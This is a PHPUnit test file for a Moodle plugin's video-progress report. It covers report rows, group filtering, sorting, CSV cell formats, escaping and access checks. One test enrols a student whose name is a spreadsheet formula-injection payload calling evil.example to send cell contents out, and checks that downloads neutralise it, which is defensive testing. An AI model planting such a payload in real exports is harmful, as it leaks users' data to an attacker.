<?php
// This file is part of Moodle - http://moodle.org/
//
// Moodle is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// Moodle is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with Moodle.  If not, see <http://www.gnu.org/licenses/>.

namespace filter_hlsgate;

use filter_hlsgate\local\progress_report;
use filter_hlsgate\local\progress_store;
use filter_hlsgate\local\progress_report_table;

#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report::class)]
#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\progress_report_table::class)]
/**
 * The teacher's report's queries: every played video × every student, percent, last watched, resume
 * position, groups, who counts as a student; the capability and the navigation link.
 *
 * @package    filter_hlsgate
 * @copyright  2026 hlsgate
 * @license    http://www.gnu.org/copyleft/gpl.html GNU GPL v3 or later
 * @covers     \filter_hlsgate\local\progress_report
 * @covers     \filter_hlsgate\local\progress_report_table
 */
final class progress_report_test extends \advanced_testcase {
    /** The first video's resource. */
    private const RES1 = 'https://media.example.test/lectures/AbCdEfGhIjKlMnOpQrSt12/';
    /** The second video's resource. */
    private const RES2 = 'https://media.example.test/lectures/ZyXwVuTsRqPoNmLkJiHg98/';

    /**
     * Stores a row as the service would after enough wall time.
     *
     * @param \stdClass $user
     * @param \context $context
     * @param string $res
     * @param array $ranges
     * @param float $position
     * @param float $duration
     */
    private static function watched(
        \stdClass $user,
        \context $context,
        string $res,
        array $ranges,
        float $position,
        float $duration = 600.0
    ): void {
        progress_store::save((int) $user->id, $context, $res, $res . 'master.m3u8', ['session' => 's' . $user->id, 'seq' => 1,
            'ranges' => [], 'position' => 0, 'duration' => $duration, 'started' => true], time() - 3600);
        progress_store::save((int) $user->id, $context, $res, $res . 'master.m3u8', ['session' => 's' . $user->id, 'seq' => 2,
            'ranges' => $ranges, 'position' => $position, 'duration' => $duration, 'started' => false]);
    }

    public function test_every_played_video_times_every_student_with_groups(): void {
        $this->resetAfterTest();
        $gen = $this->getDataGenerator();
        $course = $gen->create_course(['groupmode' => SEPARATEGROUPS]);
        $context = \context_course::instance($course->id);
        $page1 = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => 'Week 1'])->cmid);
        $page2 = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => 'Week 2'])->cmid);
        $anna = $gen->create_and_enrol($course, 'student', ['firstname' => 'Anna', 'lastname' => 'Aalto']);
        $ben = $gen->create_and_enrol($course, 'student', ['firstname' => 'Ben', 'lastname' => 'Berg']);
        $teacher = $gen->create_and_enrol($course, 'editingteacher', ['firstname' => 'Tea', 'lastname' => 'Cher']);
        $gen->create_and_enrol(
            $course,
            'student',
            ['firstname' => 'Gone', 'lastname' => 'Zed'],
            'manual',
            0,
            0,
            ENROL_USER_SUSPENDED
        );
        $other = $gen->create_course();
        $elsewhere = $gen->create_and_enrol($other, 'student');
        $otherpage = \context_module::instance($gen->create_module('page', ['course' => $other->id])->cmid);

        self::watched($anna, $page1, self::RES1, [[0, 40], [590, 600]], 600);
        self::watched($teacher, $page2, self::RES2, [[0, 10]], 10, 100);
        self::watched($elsewhere, $otherpage, self::RES1, [[0, 600]], 600);

        $rows = progress_report::rows($context);
        $got = array_map(static fn($r) => [$r->firstname, progress_report::video_name((int) $r->contextid, $r->video),
            round((float) $r->percent, 1), $r->position === null ? null : (float) $r->position], $rows);
        $this->assertSame([
            ['Anna', 'Week 1: master', 8.3, 600.0],
            ['Anna', 'Week 2: master', 0.0, null],
            ['Ben', 'Week 1: master', 0.0, null],
            ['Ben', 'Week 2: master', 0.0, null],
        ], $got);
        $this->assertNotEmpty($rows[0]->lastwatched);
        $this->assertNull($rows[2]->lastwatched);

        $group = $gen->create_group(['courseid' => $course->id]);
        $gen->create_group_member(['groupid' => $group->id, 'userid' => $ben->id]);
        $ingroup = progress_report::rows($context, (int) $group->id);
        $this->assertSame([$ben->id, $ben->id], array_map(static fn($r) => $r->userid, $ingroup));
    }

    public function test_table_sorts_by_percent_and_writes_plain_cells_for_downloads(): void {
        global $PAGE;
        $this->resetAfterTest();
        $gen = $this->getDataGenerator();
        $course = $gen->create_course();
        $context = \context_course::instance($course->id);
        $page = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => 'Intro'])->cmid);
        $low = $gen->create_and_enrol($course, 'student', ['firstname' => 'Aaron', 'lastname' => 'A']);
        $high = $gen->create_and_enrol($course, 'student', ['firstname' => 'Zed', 'lastname' => 'B']);
        self::watched($low, $page, self::RES1, [[0, 60]], 60);
        self::watched($high, $page, self::RES1, [[0, 300]], 300);
        $this->setAdminUser();
        $PAGE->set_url(new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $PAGE->set_context($context);

        // The default order (last name), as a teacher first opens the report.
        $table = new progress_report_table($context, 0, new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $table->setup();
        $table->query_db(50, false);
        $this->assertSame(['Aaron', 'Zed'], array_values(array_map(static fn($r) => $r->firstname, $table->rawdata)));

        $table = new progress_report_table($context, 0, new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $table->set_sortdata([['sortby' => 'percent', 'sortorder' => SORT_DESC]]);
        $table->setup();
        $table->query_db(50, false);
        $this->assertSame(['Zed', 'Aaron'], array_values(array_map(static fn($r) => $r->firstname, $table->rawdata)));

        // Cells as the download writes them (the download itself, through Moodle's dataformat API, is
        // fetched over HTTP by demo/e2e/moodle-progress.spec.ts: it cannot run under output buffering).
        $table->download = 'csv';
        $row = reset($table->rawdata);
        $this->assertSame(['Zed B', 'Intro: master', '50', '0:05:00'], [$table->col_fullname($row), $table->col_video($row),
            $table->col_percent($row), $table->col_position($row)]);
        $this->assertMatchesRegularExpression('/^\\d{4}-\\d\\d-\\d\\dT/', $table->col_lastwatched($row));
        // Seconds watched and time spent beside the percent (one report an hour after the first: one step).
        $this->assertSame('300', $table->col_watched($row));
        $this->assertSame((string) \filter_hlsgate\local\progress_update::MAX_TIME_STEP, $table->col_timespent($row));
        // No captions status known yet: an empty cell.
        $this->assertSame('', $table->col_captions($row));

        // The captions column: why the automatic captions are not switched on (ingest's status, as the
        // search indexer's read stored it), markup in it kept as text on screen.
        \filter_hlsgate\local\transcript_store::store(self::RES1, null, time(), ['state' => 'failed',
            'note' => 'pocketsphinx failed (exit 1) <b>model</b>; published without captions']);
        $table = new progress_report_table($context, 0, new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $table->setup();
        $table->query_db(50, false);
        $row = reset($table->rawdata);
        $this->assertSame('Speech recognition failed, so the video has no captions. pocketsphinx failed (exit 1) &lt;b&gt;model&lt;/b&gt;; '
            . 'published without captions', $table->col_captions($row));
        $table->download = 'csv';
        $this->assertStringStartsWith('Speech recognition failed', $table->col_captions($row));
    }

    public function test_a_download_keeps_formulas_as_text(): void {
        global $PAGE;
        $this->resetAfterTest();
        $gen = $this->getDataGenerator();
        $course = $gen->create_course();
        $context = \context_course::instance($course->id);
        $page = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => '@Intro'])->cmid);
        $evil = $gen->create_and_enrol(
            $course,
            'student',
            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']
        );
        self::watched($evil, $page, self::RES1, [[0, 60]], 60);
        $this->setAdminUser();
        $PAGE->set_url(new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $PAGE->set_context($context);
        $table = new progress_report_table($context, 0, new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
        $table->setup();
        $table->query_db(50, false);
        $table->download = 'csv';
        $cells = array_values($table->format_row(reset($table->rawdata)));
        $this->assertStringStartsWith('\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")', $cells[0]);
        $this->assertSame("'@Intro: master", $cells[1]);
        // On screen nothing changes.
        $table->download = '';
        $this->assertStringNotContainsString("'=HYPERLINK", implode('', $table->format_row(reset($table->rawdata))));
    }

    public function test_capability_and_navigation(): void {
        global $PAGE;
        $this->resetAfterTest();
        $gen = $this->getDataGenerator();
        $course = $gen->create_course();
        $context = \context_course::instance($course->id);
        $teacher = $gen->create_and_enrol($course, 'teacher');
        $student = $gen->create_and_enrol($course, 'student');
        $this->assertTrue(has_capability('filter/hlsgate:viewreport', $context, $teacher));
        $this->assertFalse(has_capability('filter/hlsgate:viewreport', $context, $student));

        require_once(__DIR__ . '/../lib.php');
        $PAGE->set_url(new \moodle_url('/course/view.php', ['id' => $course->id]));
        foreach ([[$teacher, true], [$student, false]] as [$user, $expected]) {
            $this->setUser($user);
            $node = \navigation_node::create('course');
            filter_hlsgate_extend_navigation_course($node, $course, $context);
            $this->assertSame($expected, (bool) $node->find('filter_hlsgate_report', \navigation_node::TYPE_SETTING));
        }
    }
}
